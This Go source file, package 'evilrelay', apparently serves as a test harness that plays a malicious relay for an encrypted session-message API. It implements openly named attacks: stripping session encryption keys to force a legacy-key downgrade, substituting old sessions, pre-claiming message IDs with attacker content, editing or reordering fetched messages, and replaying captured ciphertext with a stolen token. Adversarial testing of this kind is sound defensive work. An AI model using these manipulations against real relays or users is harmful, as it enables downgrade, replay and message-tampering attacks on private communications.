package evilrelay

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
)

// Message is a stored row of a session as the relay sends it (GET
// /v3/sessions/:id/messages): Content.C is base64 ciphertext.
type Message struct {
	ID        string  `json:"id"`
	Seq       int64   `json:"seq"`
	Content   Content `json:"content"`
	LocalID   *string `json:"localId"`
	CreatedAt int64   `json:"createdAt"`
	UpdatedAt int64   `json:"updatedAt"`
}

// Content is a row's envelope: {"t":"encrypted","c":<base64>}.
type Content struct {
	T string `json:"t"`
	C string `json:"c"`
}

// Outgoing is one row of a post (POST /v3/sessions/:id/messages).
type Outgoing struct {
	Content string `json:"content"`
	LocalID string `json:"localId"`
}

// Receipt is the relay's answer for one posted row.
type Receipt struct {
	ID      string `json:"id"`
	Seq     int64  `json:"seq"`
	LocalID string `json:"localId"`
}

// On applies rule to the requests with method ("" for any) whose path
// matches pattern, and passes every other request on unchanged. A pattern
// is a path whose segments are literal or "{name}", which matches any one
// non-empty segment (read it with PathValue), e.g.
// "/v3/sessions/{id}/messages".
func On(method, pattern string, rule Rule) Rule {
	return func(req *Request, next Next) (*Response, error) {
		if method != "" && req.Method != method {
			return next(req)
		}
		vars, ok := match(pattern, req.Path)
		if !ok {
			return next(req)
		}
		req.vars = vars
		return rule(req, next)
	}
}

// PathValue is the path segment the pattern of On named name ("" when
// none).
func (r *Request) PathValue(name string) string { return r.vars[name] }

func match(pattern, path string) (map[string]string, bool) {
	ps, xs := strings.Split(strings.Trim(pattern, "/"), "/"), strings.Split(strings.Trim(path, "/"), "/")
	if len(ps) != len(xs) {
		return nil, false
	}
	vars := map[string]string{}
	for i, p := range ps {
		if strings.HasPrefix(p, "{") && strings.HasSuffix(p, "}") {
			if xs[i] == "" {
				return nil, false
			}
			vars[p[1:len(p)-1]] = xs[i]
			continue
		}
		if p != xs[i] {
			return nil, false
		}
	}
	return vars, true
}

// Drop drops the requests On(method, pattern) matches: their connections
// close without an answer.
func Drop(method, pattern string) Rule {
	return On(method, pattern, func(*Request, Next) (*Response, error) { return nil, ErrDrop })
}

// EditJSON lets edit change the JSON answer of the requests On(method,
// pattern) matches: edit gets the decoded body (maps, slices, float64s,
// strings, bools, nil) and returns the body to send. Non-2xx answers and
// bodies that are not JSON pass unchanged.
func EditJSON(method, pattern string, edit func(body any) any) Rule {
	return On(method, pattern, func(req *Request, next Next) (*Response, error) {
		resp, err := next(req)
		if err != nil || resp.Status < 200 || resp.Status > 299 {
			return resp, err
		}
		var v any
		if json.Unmarshal(resp.Body, &v) != nil {
			return resp, nil
		}
		out := JSON(resp.Status, edit(v))
		return out, nil
	})
}

// StripSessionKey answers a session's creation (POST /v1/sessions) with
// the session the relay returned, its dataEncryptionKey set to null: what
// would make a client fall back to the account secret ("legacy").
func StripSessionKey() Rule {
	return EditJSON(http.MethodPost, "/v1/sessions", func(body any) any {
		if m, ok := body.(map[string]any); ok {
			if s, ok := m["session"].(map[string]any); ok {
				s["dataEncryptionKey"] = nil
			}
		}
		return body
	})
}

// SubstituteSession answers every session creation (POST /v1/sessions)
// with the account's existing session id, as GET /v1/sessions lists it,
// instead of creating one: a client that asked for a new session is handed
// an old one. The creation never reaches the relay. A session id the
// listing does not hold is answered 404.
func SubstituteSession(id string) Rule {
	return On(http.MethodPost, "/v1/sessions", func(req *Request, next Next) (*Response, error) {
		list, err := next(&Request{Method: http.MethodGet, Path: "/v1/sessions", Header: req.Header})
		if err != nil {
			return nil, err
		}
		var out struct {
			Sessions []map[string]any `json:"sessions"`
		}
		if err := json.Unmarshal(list.Body, &out); err != nil {
			return nil, fmt.Errorf("evilrelay: list sessions: %w", err)
		}
		for _, s := range out.Sessions {
			if s["id"] == id {
				return JSON(http.StatusOK, map[string]any{"session": s}), nil
			}
		}
		return JSON(http.StatusNotFound, map[string]any{"error": "evilrelay: no session " + id}), nil
	})
}

// PreClaim stores rows of the attacker's before a client's post of rows
// (POST /v3/sessions/:id/messages) reaches the relay: for every localId of
// the post for which claim returns ok, the content claim returns is posted
// first under that localId, with the client's own token. The relay then
// keeps the attacker's row for that localId and answers the client's post
// with it ("already stored"). claim is called once per localId posted.
func PreClaim(claim func(sessionID, localID string) (content string, ok bool)) Rule {
	return On(http.MethodPost, "/v3/sessions/{id}/messages", func(req *Request, next Next) (*Response, error) {
		var in struct {
			Messages []Outgoing `json:"messages"`
		}
		if json.Unmarshal(req.Body, &in) != nil {
			return next(req)
		}
		var own []Outgoing
		for _, m := range in.Messages {
			if c, ok := claim(req.PathValue("id"), m.LocalID); ok {
				own = append(own, Outgoing{Content: c, LocalID: m.LocalID})
			}
		}
		if len(own) > 0 {
			b, _ := json.Marshal(map[string]any{"messages": own})
			resp, err := next(&Request{Method: http.MethodPost, Path: req.Path, Header: req.Header, Body: b})
			if err != nil {
				return nil, err
			}
			if resp.Status != http.StatusOK {
				return nil, fmt.Errorf("evilrelay: pre-claim: status %d: %s", resp.Status, resp.Body)
			}
		}
		return next(req)
	})
}

// EditMessages lets edit change the pages of a session's rows (GET
// /v3/sessions/:id/messages) a client fetches: drop rows, reorder them,
// add replayed ones. hasMore is kept.
func EditMessages(edit func(sessionID string, page []Message) []Message) Rule {
	return On(http.MethodGet, "/v3/sessions/{id}/messages", func(req *Request, next Next) (*Response, error) {
		resp, err := next(req)
		if err != nil || resp.Status != http.StatusOK {
			return resp, err
		}
		var page struct {
			Messages []Message `json:"messages"`
			HasMore  bool      `json:"hasMore"`
		}
		if json.Unmarshal(resp.Body, &page) != nil {
			return resp, nil
		}
		page.Messages = edit(req.PathValue("id"), page.Messages)
		if page.Messages == nil {
			page.Messages = []Message{}
		}
		return JSON(http.StatusOK, page), nil
	})
}

// Post stores rows in session sid on the real relay with the captured
// token (Token), as a holder of the account's token can, and returns the
// relay's receipts.
func (p *Proxy) Post(ctx context.Context, sid string, msgs ...Outgoing) ([]Receipt, error) {
	var out struct {
		Messages []Receipt `json:"messages"`
	}
	err := p.Call(ctx, http.MethodPost, "/v3/sessions/"+url.PathEscape(sid)+"/messages", nil, map[string]any{"messages": msgs}, &out)
	return out.Messages, err
}

// Messages reads every row of session sid after seq afterSeq from the real
// relay with the captured token, in seq order.
func (p *Proxy) Messages(ctx context.Context, sid string, afterSeq int64) ([]Message, error) {
	var all []Message
	for {
		var page struct {
			Messages []Message `json:"messages"`
			HasMore  bool      `json:"hasMore"`
		}
		q := url.Values{"after_seq": {strconv.FormatInt(afterSeq, 10)}, "limit": {"500"}}
		if err := p.Call(ctx, http.MethodGet, "/v3/sessions/"+url.PathEscape(sid)+"/messages", q, nil, &page); err != nil {
			return all, err
		}
		all = append(all, page.Messages...)
		if !page.HasMore || len(page.Messages) == 0 {
			return all, nil
		}
		afterSeq = page.Messages[len(page.Messages)-1].Seq
	}
}

// Replay stores the ciphertext of session sid's row at seq again, under
// localID, and returns the new row's receipt: a replay the relay cannot
// tell from a client's post.
func (p *Proxy) Replay(ctx context.Context, sid string, seq int64, localID string) (Receipt, error) {
	rows, err := p.Messages(ctx, sid, seq-1)
	if err != nil {
		return Receipt{}, err
	}
	if len(rows) == 0 || rows[0].Seq != seq {
		return Receipt{}, fmt.Errorf("evilrelay: replay: session %s has no row at seq %d", sid, seq)
	}
	rs, err := p.Post(ctx, sid, Outgoing{Content: rows[0].Content.C, LocalID: localID})
	if err != nil {
		return Receipt{}, err
	}
	if len(rs) != 1 {
		return Receipt{}, fmt.Errorf("evilrelay: replay: %d receipts", len(rs))
	}
	return rs[0], nil
}
